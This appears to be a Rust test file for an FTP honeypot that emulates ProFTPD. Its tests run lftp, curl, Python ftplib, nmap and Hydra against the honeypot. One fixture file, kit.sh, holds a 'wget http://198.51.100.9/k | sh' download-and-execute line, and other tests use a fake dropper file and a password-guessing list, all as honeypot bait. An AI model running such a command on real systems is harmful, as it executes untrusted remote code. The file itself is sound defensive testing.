    ftp.reply().await;
    ftp.send("USER ftptest").await;
    ftp.send("PASS ftptest").await;
    // As the capture's session had left it.
    ftp.send("TYPE I").await;
    let text = proftpd_capture("local-user.txt");
    let steps = capture_steps(&text, "# --- uploads ---", Some("# --- listings after"));
    // Uploads send the capture's data lines, with CRLFs (TYPE A stores them as LFs).
    let compared = replay_steps(&mut ftp, &steps, |_, n| vec![b'x'; n]).await;
    assert!(compared > 100, "{compared} lines compared");
    // The upload's event reaches the sink after its reply (waited for, not raced).
    harness
        .wait_for("the upload of ascii.txt", |events| {
            events.iter().any(|e| {
                matches!(
                    &e.kind,
                    EventKind::FileUpload { filename, .. } if filename == "/home/ftptest/ascii.txt"
                )
            })
        })
        .await;
    harness.stop().await;
}

fn installed(tool: &str, version_arg: &str) -> bool {
    std::process::Command::new(tool)
        .arg(version_arg)
        .output()
        .is_ok()
}

/// lftp against the ProFTPD persona, as in `clients.txt`: it tries `AUTH TLS` (500,
/// goes on in plain), uploads, lists with `MLSD` (`cls -l`), sets the upload's time
/// with `MFMT`, downloads; anonymously, `CWD /pub` shows the `.message`-free listing and
/// an upload is refused with ProFTPD's words.
#[tokio::test]
async fn proftpd_lftp_puts_lists_and_gets() {
    if !installed("lftp", "--version") {
        return tool_missing("lftp");
    }
    let harness = Harness::start_proftpd(|_| {}).await;
    let work = tempfile::tempdir().unwrap();
    std::fs::write(
        work.path().join("kit.sh"),
        b"wget http://198.51.100.9/k | sh\n",
    )
    .unwrap();
    let commands = format!(
        "set net:max-retries 1; set net:timeout 10; open -u ftptest,ftptest -p {} 127.0.0.1; \
         put kit.sh; cls -l; ls; get kit.sh -o back.sh; bye",
        harness.addr.port()
    );
    let output = {
        let mut lftp = std::process::Command::new("lftp");
        lftp.args(["-d", "-c", &commands]).current_dir(work.path());
        run_client(lftp).await
    };
    let stdout = String::from_utf8_lossy(&output.stdout).into_owned();
    let stderr = String::from_utf8_lossy(&output.stderr).into_owned();
    assert!(output.status.success(), "lftp failed: {stdout}\n{stderr}");
    for expected in [
        "<--- 500 AUTH not understood",
        "<--- 230 User ftptest logged in",
        "---> MFMT ",
        "---> MLSD",
        "<--- 150 Opening BINARY mode data connection for kit.sh",
    ] {
        assert!(
            stderr.contains(expected),
            "{expected:?} in lftp's log:\n{stderr}"
        );
    }
    assert!(
        stdout.contains("ftptest  ftptest") && stdout.contains(" kit.sh"),
        "cls -l and ls show the upload with owner names: {stdout}"
    );
    assert_eq!(
        std::fs::read(work.path().join("back.sh")).unwrap(),
        b"wget http://198.51.100.9/k | sh\n"
    );
    let anonymous = format!(
        "set net:max-retries 1; set net:timeout 10; open -p {} 127.0.0.1; ls; put kit.sh; bye",
        harness.addr.port()
    );
    let output = {
        let mut lftp = std::process::Command::new("lftp");
        lftp.args(["-c", &anonymous]).current_dir(work.path());
        run_client(lftp).await
    };
    let stdout = String::from_utf8_lossy(&output.stdout).into_owned();
    let stderr = String::from_utf8_lossy(&output.stderr).into_owned();
    assert!(
        stdout.contains("ftp      ftp") && stdout.contains("welcome.msg"),
        "anonymous ls: {stdout}\n{stderr}"
    );
    assert!(
        stderr.contains("put: Access failed: 550 kit.sh: Operation not permitted"),
        "{stderr}"
    );
    harness.stop().await;
}

/// curl uploads as a local user and lists anonymously (EPSV, `TYPE A` listings); a wrong
/// password is `curl: (67) Access denied: 530`.
#[tokio::test]
async fn proftpd_curl_uploads_lists_and_is_denied() {
    if !installed("curl", "--version") {
        return tool_missing("curl");
    }
    let harness = Harness::start_proftpd(|_| {}).await;
    let work = tempfile::tempdir().unwrap();
    let file = work.path().join("drop.bin");
    std::fs::write(&file, b"\x7fELF-dropper").unwrap();
    let base = format!("ftp://127.0.0.1:{}", harness.addr.port());
    let run = |args: Vec<String>| async move {
        let mut curl = std::process::Command::new("curl");
        curl.args(["-sS", "--max-time", "20"]).args(args);
        run_client(curl).await
    };
    let put = run(vec![
        "-u".into(),
        "ftptest:ftptest".into(),
        "-T".into(),
        file.display().to_string(),
        format!("{base}/"),
    ])
    .await;
    assert!(
        put.status.success(),
        "{}",
        String::from_utf8_lossy(&put.stderr)
    );
    let list = run(vec![
        "-u".into(),
        "ftptest:ftptest".into(),
        format!("{base}/"),
    ])
    .await;
    let listing = String::from_utf8_lossy(&list.stdout).into_owned();
    assert!(
        listing
            .lines()
            .any(|l| l.contains("ftptest  ftptest") && l.ends_with(" drop.bin")),
        "{listing}"
    );
    let anonymous = run(vec![format!("{base}/")]).await;
    let listing = String::from_utf8_lossy(&anonymous.stdout).into_owned();
    assert!(listing.contains(" welcome.msg"), "{listing}");
    let denied = run(vec![
        "-u".into(),
        "ftptest:wrong".into(),
        format!("{base}/"),
    ])
    .await;
    assert_eq!(denied.status.code(), Some(67));
    assert!(
        String::from_utf8_lossy(&denied.stderr).contains("Access denied: 530"),
        "{}",
        String::from_utf8_lossy(&denied.stderr)
    );
    harness.stop().await;
}

/// Python's ftplib in passive and active mode, with MLSD's facts.
#[tokio::test]
async fn proftpd_python_ftplib_in_both_modes_with_mlsd() {
    if !python_ftplib_available() {
        return tool_missing("python3");
    }
    let harness = Harness::start_proftpd(|_| {}).await;
    let script = r##"
import ftplib, io, sys
ftp = ftplib.FTP()
ftp.connect(sys.argv[1], int(sys.argv[2]), timeout=20)
print("WELCOME", ftp.getwelcome())
print("LOGIN", ftp.login("ftptest", "ftptest"))
print("STOR", ftp.storbinary("STOR a.bin", io.BytesIO(b"A" * 1000)))
ftp.set_pasv(False)
print("STOR-ACTIVE", ftp.storbinary("STOR b.bin", io.BytesIO(b"B" * 10)))
print("NLST", sorted(n for n in ftp.nlst() if n.endswith(".bin")))
ftp.set_pasv(True)
facts = dict(ftp.mlsd(facts=["type", "size"]))
print("MLSD", facts["a.bin"]["type"], facts["a.bin"]["size"], facts["."]["type"])
got = io.BytesIO()
ftp.retrbinary("RETR b.bin", got.write)
print("RETR", got.getvalue())
print("SIZE", ftp.size("a.bin"))
print("QUIT", ftp.quit())
"##;
    let port = harness.addr.port().to_string();
    let output = {
        let mut python = std::process::Command::new("python3");
        python.args(["-c", script, "127.0.0.1", &port]);
        run_client(python).await
    };
    let stdout = String::from_utf8_lossy(&output.stdout).into_owned();
    assert!(
        output.status.success(),
        "ftplib failed: {stdout}\n{}",
        String::from_utf8_lossy(&output.stderr)
    );
    for expected in [
        "WELCOME 220 ProFTPD Server (Debian) [::ffff:127.0.0.1]",
        "LOGIN 230 User ftptest logged in",
        "STOR 226 Transfer complete",
        "STOR-ACTIVE 226 Transfer complete",
        "NLST ['a.bin', 'b.bin']",
        "MLSD file 1000 cdir",
        "RETR b'BBBBBBBBBB'",
        "SIZE 1000",
        "QUIT 221 Goodbye.",
    ] {
        assert!(stdout.contains(expected), "{expected:?} in {stdout}");
    }
    harness.stop().await;
}

/// `nmap -sV -sC` names the persona `ProFTPD` (from the HELP block, after its
/// `GenericLines` probe) and its scripts see what they saw on the real one
/// (`testdata/ftp/proftpd-1.3.8/nmap.txt`): the anonymous listing, the bounce refusal,
/// no ftp-syst output.
#[tokio::test]
async fn nmap_names_the_proftpd_persona_proftpd() {
    if !installed("nmap", "--version") {
        return tool_missing("nmap");
    }
    let harness = Harness::start_proftpd(|_| {}).await;
    let port = harness.addr.port().to_string();
    let output = {
        let mut nmap = std::process::Command::new("nmap");
        nmap.args(["-sV", "-sC", "-Pn", "-n", "-p", &port, "127.0.0.1"]);
        run_client(nmap).await
    };
    let stdout = String::from_utf8_lossy(&output.stdout).into_owned();
    let real = proftpd_capture("nmap.txt");
    for expected in [
        "/tcp open  ftp     ProFTPD",
        "ftp-bounce: server forbids bouncing to low ports <1025",
        "ftp-anon: Anonymous FTP login allowed (FTP code 230)",
        "ftp      ftp           170 ",
    ] {
        assert!(
            stdout.contains(expected),
            "{expected:?} in nmap's output:\n{stdout}"
        );
        assert!(
            real.contains(expected),
            "{expected:?} as against the real ProFTPD"
        );
    }
    for absent in ["ftp-syst", "Service Info: OS"] {
        assert!(!stdout.contains(absent), "{absent:?} in {stdout}");
        assert!(!real.contains(absent));
    }
    harness.stop().await;
}

/// THC-Hydra's `ftp` module against the ProFTPD persona: it finds the password, and
/// every attempt is one `login.attempt` event.
#[tokio::test]
async fn hydra_ftp_against_proftpd_finds_the_password() {
    if std::process::Command::new("hydra").output().is_err() {
        return tool_missing("hydra");
    }
    let harness = Harness::start_proftpd(|_| {}).await;
    let passwords = ["123456", "admin", "password", "ftptest", "qwerty"];
    let attempts = hydra_ftp_attempts(&harness, "ftptest", &passwords, "ftptest").await;
    assert!(
        attempts.contains(&("ftptest".to_owned(), "ftptest".to_owned(), true)),
        "{attempts:?}"
    );
    assert!(attempts.iter().all(|(user, p, ok)| user == "ftptest"
        && passwords.contains(&p.as_str())
        && (*ok == (p == "ftptest"))));
    harness.stop().await;
}

/// The per-address upload budget (`limits.max_upload_bytes_per_ip`): a new connection
/// from the same address does not reset it; past it the upload is refused as on a full
/// disk, what arrived is still captured, and the refusal is counted.
#[tokio::test]
async fn uploads_are_bounded_per_address_across_connections() {
    let harness = Harness::start_with(
        |honeypot| honeypot.limits.max_upload_bytes_per_ip = 1000,
        |_| {},
    )
    .await;
    let mut replies = Vec::new();
    for name in ["first.bin", "second.bin"] {
        let mut ftp = Control::connect(harness.addr).await;
        ftp.reply().await;
        ftp.send("USER root").await;
        assert_eq!(ftp.send("PASS hunter2").await, ["230 Login successful."]);
        ftp.send("TYPE I").await;
        let pasv = ftp.send("PASV").await;
        let port = passive_port(&pasv[0]);
        ftp.writer
            .write_all(format!("STOR {name}\r\n").as_bytes())
            .await
            .unwrap();
        let mut data = TcpStream::connect(("127.0.0.1", port)).await.unwrap();
        assert_eq!(ftp.reply().await, ["150 Ok to send data."]);
        let _ = data.write_all(&[b'x'; 800]).await;
        drop(data);
        replies.push(ftp.reply().await);
        ftp.send("QUIT").await;
    }
    assert_eq!(replies[0], ["226 Transfer complete."]);
    assert_eq!(replies[1], ["451 Failure writing to local file."]);
    let events = harness.wait_closed(2).await;
    let uploads: Vec<&str> = events
        .iter()
        .filter_map(|e| match &e.kind {
            EventKind::FileUpload { filename, .. } => Some(filename.as_str()),
            _ => None,
        })
        .collect();
    assert_eq!(
        uploads.len(),
        2,
        "both are captured as far as they came: {uploads:?}"
    );
    harness.stop().await;
}
